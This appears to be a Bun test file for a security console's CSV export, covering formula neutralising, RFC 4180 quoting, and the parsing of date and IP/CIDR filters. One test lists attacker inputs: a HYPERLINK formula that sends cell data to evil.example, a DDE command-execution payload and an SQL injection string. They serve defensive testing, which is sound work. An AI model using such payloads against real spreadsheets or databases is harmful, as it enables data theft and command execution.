import { expect, test } from "bun:test"
import { csvCell, csvRecord, parseCsv } from "../../src/console/csv.ts"
import { parseDateBound, parseSource, readEventFilters } from "../../src/console/listFilters.ts"

/** The console's CSV exports: RFC 4180 quoting, formula neutralising, and the Events filters' reading of dates and sources. */

test("a cell that starts with =, +, -, @, tab or CR gets a leading ' (and only then)", () => {
  expect(csvCell("=1+2")).toBe("'=1+2")
  expect(csvCell("+31 6 1234")).toBe("'+31 6 1234")
  expect(csvCell("-2")).toBe("'-2")
  expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)")
  expect(csvCell("\tcmd")).toBe("'\tcmd")
  // A CR needs quotes as well as the mark.
  expect(csvCell("\r=cmd")).toBe(`"'\r=cmd"`)
  for (const plain of ["root", "a=b", "1-2", "mail@example.com", " =x", "'already", "", "ümlaut=", "日本語"]) {
    expect(csvCell(plain)).toBe(plain)
  }
  expect(csvCell(null)).toBe("")
  expect(csvCell(undefined)).toBe("")
  expect(csvCell(42)).toBe("42")
  expect(csvCell(-1)).toBe("'-1")
  expect(csvCell(true)).toBe("true")
})

test("RFC 4180: quotes doubled, fields with a comma, quote, CR or LF quoted, records CRLF-ended", () => {
  expect(csvCell('say "hi"')).toBe('"say ""hi"""')
  expect(csvCell("a,b")).toBe('"a,b"')
  expect(csvCell("line1\nline2")).toBe('"line1\nline2"')
  expect(csvCell("line1\r\nline2")).toBe('"line1\r\nline2"')
  expect(csvRecord(["a", "b,c", 3])).toBe('a,"b,c",3\r\n')
  expect(csvRecord([])).toBe("\r\n")
})

test("attacker text survives a round trip: quotes, newlines, commas, unicode, formulas (neutralised)", () => {
  const attacker = [
    `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
    `"; DROP TABLE events; --`,
    "admin\r\n=cmd|' /C calc'!A0",
    "a,b,,c",
    '""',
    "-1+1",
    "@import",
    "\t\tindented",
    "\rcarriage",
    "emoji 🦊 and RTL \u202e and ñ, 中文",
    "trailing newline\n",
    " ",
    "",
  ]
  const text = csvRecord(["column", "value"]) + attacker.map((value, i) => csvRecord([String(i), value])).join("")
  const back = parseCsv(text)
  expect(back[0]).toEqual(["column", "value"])
  expect(back.length).toBe(attacker.length + 1)
  attacker.forEach((value, i) => {
    const cell = back[i + 1]?.[1] as string
    expect(back[i + 1]?.[0]).toBe(String(i))
    // What a spreadsheet gets: never a cell that starts with a formula character.
    expect(/^[=+\-@\t\r]/.test(cell)).toBe(false)
    // And the exact text once the one mark is taken off.
    expect(/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell).toBe(value)
  })
})

test("parseCsv is strict about malformed quoting", () => {
  expect(() => parseCsv('a"b,c\r\n')).toThrow()
  expect(() => parseCsv('"open,c\r\n')).toThrow()
  expect(() => parseCsv('"a"b,c\r\n')).toThrow()
  expect(parseCsv("")).toEqual([])
  expect(parseCsv("a,b")).toEqual([["a", "b"]])
  expect(parseCsv(",\r\n")).toEqual([["", ""]])
})

test("Events filters: a plain date is that UTC day; RFC 3339 as the API reads it; anything else is refused", () => {
  expect(parseDateBound("2026-11-26", "from")?.toISOString()).toBe("2026-11-26T00:00:00.000Z")
  // `to` is exclusive: the end of the day is the start of the next.
  expect(parseDateBound("2026-11-26", "to")?.toISOString()).toBe("2026-11-27T00:00:00.000Z")
  expect(parseDateBound("2026-12-31", "to")?.toISOString()).toBe("2027-01-01T00:00:00.000Z")
  expect(parseDateBound("2026-11-26T08:30:00+01:00", "from")?.toISOString()).toBe("2026-11-26T07:30:00.000Z")
  for (const bad of ["26/11/2026", "2026-11-31", "2026-13-01", "2026-11-26T08:00", "yesterday", "2026-11-26 08:00"]) {
    expect(parseDateBound(bad, "from")).toBeUndefined()
  }
})

test("Events filters: a source is an address (canonical) or a CIDR network (host bits cleared)", () => {
  expect(parseSource("203.0.113.7")).toEqual({ _tag: "address", ip: "203.0.113.7" })
  expect(parseSource("2001:DB8::0:1")).toEqual({ _tag: "address", ip: "2001:db8::1" })
  expect(parseSource("203.0.113.7/24")).toEqual({ _tag: "network", cidr: "203.0.113.0/24" })
  expect(parseSource("203.0.113.7/32")).toEqual({ _tag: "address", ip: "203.0.113.7" })
  expect(parseSource("2001:db8::5/32")).toEqual({ _tag: "network", cidr: "2001:db8::/32" })
  expect(parseSource("0.0.0.0/0")).toEqual({ _tag: "network", cidr: "0.0.0.0/0" })
  for (const bad of ["203.0.113", "203.0.113.7/33", "2001:db8::/129", "10.0.0.1/", "/24", "010.0.0.1", "host"]) {
    expect(parseSource(bad)).toBeUndefined()
  }
})

test("Events filters: each value that cannot be read is named with what it accepts; the others still apply", () => {
  const read = readEventFilters({
    type: "",
    severity: "high",
    sensorId: "",
    sourceIp: "not-an-ip",
    from: "26/11/2026",
    to: "2026-11-27",
    incidentId: "",
  })
  expect(read.filters.severity).toBe("high")
  expect(read.filters.to?.toISOString()).toBe("2026-11-28T00:00:00.000Z")
  expect(read.filters.from).toBeUndefined()
  expect(read.filters.sourceIp).toBeUndefined()
  expect(read.errors.length).toBe(2)
  expect(read.errors[0]).toContain("“Source IP”")
  expect(read.errors[0]).toContain("203.0.113.0/24")
  expect(read.errors[1]).toContain("“From”")
  expect(read.errors[1]).toContain("2026-11-26")
})
